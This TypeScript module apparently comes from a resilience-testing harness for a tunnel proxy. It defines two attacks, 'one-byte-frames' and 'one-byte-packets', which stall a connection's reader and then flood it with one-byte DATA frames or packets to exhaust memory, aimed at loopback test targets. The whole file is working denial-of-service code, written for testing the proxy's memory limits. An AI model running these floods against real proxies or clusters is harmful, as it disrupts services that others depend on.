import { connect } from "node:net";
import { BOUND_MIB, type Target } from "../attack.js";
import type { Work } from "../harness/work.js";
import { data } from "../raw/frames.js";
import { dataPacket, dialRequest, dialResponse, PacketType } from "../raw/packets.js";
import type { HostileLink } from "./link.js";
import { linkAttack } from "./link.js";

/** A connection whose reader has stopped. */
interface StalledConnection {
  readonly connectId: number;
  /** Lets its reader go on. */
  wake(): void;
}

async function stalledConnection(
  { peer, role, stream }: HostileLink,
  work: Work,
  target: Target,
): Promise<StalledConnection | undefined> {
  let connectId: number | undefined;
  peer.onPacket = ({ type, connectId: id, random, error }) => {
    if (type === PacketType.DIAL_REQ) {
      connectId = 77;
      peer.send(stream, dialResponse(random, connectId));
    } else if (type === PacketType.DIAL_RSP && error === "") connectId = id;
  };
  let wake = () => void connect(Number(target.extra.wake), "127.0.0.1").on("error", () => {});
  if (role === "agent") {
    // The accomplice: a caller of this agent's own host that does not read.
    const accomplice = await work.connect(target.listeners["connect-uds"]!);
    accomplice?.pause();
    accomplice?.write("CONNECT 127.0.0.4:1 HTTP/1.1\r\nHost: 127.0.0.4:1\r\n\r\n");
    wake = () => void accomplice?.resume();
  } else peer.send(stream, dialRequest(target.stalled, 4711n));
  await work.until(() => connectId !== undefined);
  if (connectId === undefined) work.note("no connection to stall");
  return connectId === undefined ? undefined : { connectId, wake };
}

/** Sends bytes in frames of `size`, as windows allow, until the time is over or nothing more is taken. */
async function trickle(
  { peer, socket, stream }: HostileLink,
  work: Work,
  bytes: Buffer,
  { size, perWrite }: { size: number; perWrite: number },
): Promise<void> {
  for (let at = 0; at < bytes.length && !work.over && !socket.destroyed; ) {
    if (!(await work.until(() => peer.room(stream) >= size || socket.destroyed))) return;
    const frames: Buffer[] = [];
    for (let room = peer.room(stream); room >= size && at < bytes.length && frames.length < perWrite; room -= size) {
      frames.push(data(stream, bytes.subarray(at, at + size)));
      at += size;
    }
    peer.spend(stream, frames.length * size);
    if (!(await work.write(socket, Buffer.concat(frames)))) return;
    await work.sleep(3);
  }
}

/** More than may wait for one reader (--tunnel-queue-bytes) and than the system takes for it. */
const STOPPING_BYTES = 6_400_000;

export const oneByteFrames = linkAttack({
  name: "one-byte-frames",
  shortPlaces: ["agents", "server"],
  description: "250,000 DATA frames of one byte, for a connection whose reader has stopped",
  boundMiB: BOUND_MIB,
  places: ["agents", "grpc", "server"],
  metadata: { agentidentifiers: "ipv4=127.0.0.4" },
  seconds: 6,
  shortSeconds: 2.5,
  async onLink(link, work, target) {
    const stalled = await stalledConnection(link, work, target);
    if (!stalled) return;
    const { connectId } = stalled;
    // First enough to stop the reader, in ordinary frames.
    const part = dataPacket(connectId, Buffer.alloc(STOPPING_BYTES / 8));
    for (let count = 0; count < 8; count++) await trickle(link, work, part, { size: 8192, perWrite: 16 });
    await trickle(link, work, dataPacket(connectId, Buffer.alloc(250_000)), { size: 1, perWrite: 2000 });
    // What has gathered is passed on at once.
    stalled.wake();
  },
});

export const oneBytePackets = linkAttack({
  name: "one-byte-packets",
  shortPlaces: ["agents", "server"],
  description: "3 MB of payload in packets of one byte, for a connection whose reader has stopped",
  boundMiB: BOUND_MIB,
  places: ["agents", "grpc", "server"],
  metadata: { agentidentifiers: "ipv4=127.0.0.4" },
  seconds: 12,
  shortSeconds: 3,
  async onLink(link, work, target) {
    const stalled = await stalledConnection(link, work, target);
    if (!stalled) return;
    const packet = dataPacket(stalled.connectId, Buffer.of(1));
    const many = Buffer.concat(Array<Buffer>(10_000).fill(packet));
    for (let sent = 0; sent < 300 && !work.over && !link.socket.destroyed; sent++) {
      await trickle(link, work, many, { size: packet.length * 1000, perWrite: 1 });
    }
  },
});
